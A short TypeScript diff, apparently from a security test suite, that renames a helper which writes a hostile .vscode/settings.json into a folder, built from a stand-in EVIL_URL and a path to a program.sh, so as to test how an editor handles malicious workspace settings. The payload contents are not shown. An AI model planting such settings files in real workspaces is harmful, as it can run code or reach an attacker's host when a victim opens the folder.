@@ -18,7 +18,7 @@ const NETWORK_SETTINGS = {
 };
 
 /** Writes the settings file into the folder. Returns the folder. */
-export function makeHostile(folder: string): string {
+export function makeFolderHostile(folder: string): string {
   mkdirSync(join(folder, '.vscode'), { recursive: true });
   const settings = { ...hostileSettings(EVIL_URL, join(folder, '..', 'program.sh')), ...NETWORK_SETTINGS };
   writeFileSync(join(folder, '.vscode', 'settings.json'), JSON.stringify(settings));
